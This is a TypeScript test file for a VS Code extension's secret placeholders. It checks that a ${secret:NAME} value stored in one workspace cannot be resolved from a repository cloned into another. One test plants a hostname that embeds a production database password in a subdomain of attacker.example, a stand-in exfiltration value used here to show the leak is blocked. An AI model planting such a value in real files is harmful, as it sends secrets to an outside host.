// ${secret:NAME} values belong to the workspace they were set in. The attack: a repository cloned into another
// workspace holds a file that names the secret of a production workspace; sending it must not read that value.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import Module from 'node:module';

/** The parts of `vscode` PlaceholderSecrets reads: which workspace is open. */
const fakeWorkspace: { workspaceFile?: { toString(): string }; workspaceFolders?: { uri: { toString(): string } }[] } = {};
type Load = (request: string, parent: unknown, isMain: boolean) => unknown;
const loader = Module as unknown as { _load: Load };
const originalLoad = loader._load;
loader._load = function load(this: unknown, request, parent, isMain) {
  return request === 'vscode' ? { workspace: fakeWorkspace } : originalLoad.call(this, request, parent, isMain);
};

/** SecretStorage as a Map, shared by every workspace as VS Code's is (one store per extension). */
class MemorySecrets {
  readonly values = new Map<string, string>();
  get = async (key: string) => this.values.get(key);
  store = async (key: string, value: string) => void this.values.set(key, value);
  delete = async (key: string) => void this.values.delete(key);
  onDidChange = () => ({ dispose: () => undefined });
}

const open = (folder: string) => (fakeWorkspace.workspaceFolders = [{ uri: { toString: () => folder } }]);

describe('${secret:NAME} scope', () => {
  test('a file of another workspace that names the secret gets nothing', async () => {
    const { PlaceholderSecrets } = await import('../../client/src/secrets/placeholderSecrets.js');
    const { resolvePlaceholders } = await import('../../core/src/placeholders.js');
    const storage = new MemorySecrets();
    const secrets = new PlaceholderSecrets(storage as never);
    open('file:///work/production-connections');
    await secrets.storeSecret('PROD_DB_PASSWORD', 'prod-secret-value-1');
    const here = await resolvePlaceholders({ password: '${secret:PROD_DB_PASSWORD}' }, secrets.sources());
    assert.equal(here.value.password, 'prod-secret-value-1');

    open('file:///home/me/cloned-from-somewhere');
    const planted = await resolvePlaceholders({ hostname: '${secret:PROD_DB_PASSWORD}.attacker.example' }, secrets.sources());
    assert.deepEqual(planted.resolvedValues, []);
    assert.deepEqual(planted.missing.map((m) => m.name), ['PROD_DB_PASSWORD']);
    assert.ok(![...storage.values.keys()].includes('polytomic.secret/PROD_DB_PASSWORD'), 'no global name');
  });

  test('the fingerprint key is made once and kept in secret storage', async () => {
    const { PlaceholderSecrets } = await import('../../client/src/secrets/placeholderSecrets.js');
    const storage = new MemorySecrets();
    const first = await new PlaceholderSecrets(storage as never).digestKey();
    assert.equal(await new PlaceholderSecrets(storage as never).digestKey(), first);
    assert.equal(storage.values.get('polytomic.fingerprintKey'), first);
  });
});
